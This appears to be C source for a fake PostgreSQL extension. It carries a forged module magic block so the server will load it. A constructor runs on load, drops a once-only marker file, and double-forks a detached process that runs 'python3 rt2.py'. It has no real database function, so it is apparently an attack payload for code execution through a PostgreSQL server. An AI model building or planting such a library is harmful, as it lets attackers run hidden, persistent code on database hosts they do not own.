#include <unistd.h>
#include <fcntl.h>
#include <stdlib.h>
typedef struct { int len; int version; int funcmaxargs; int indexmaxkeys; int namedatalen; int float8byval; char abi_extra[32]; } Pg_magic_struct;
static const Pg_magic_struct magic = { sizeof(Pg_magic_struct), 1500, 100, 32, 64, 1, "PostgreSQL" };
const Pg_magic_struct *Pg_magic_func(void) { return &magic; }
__attribute__((constructor)) static void rt_init(void) {
    int fd = open("rt_started", O_CREAT | O_EXCL | O_WRONLY, 0600);
    if (fd < 0) return;
    close(fd);
    pid_t p = fork();
    if (p == 0) { setsid(); if (fork() == 0) { execl("/usr/bin/python3", "python3", "rt2.py", (char*)0); } _exit(0); }
}
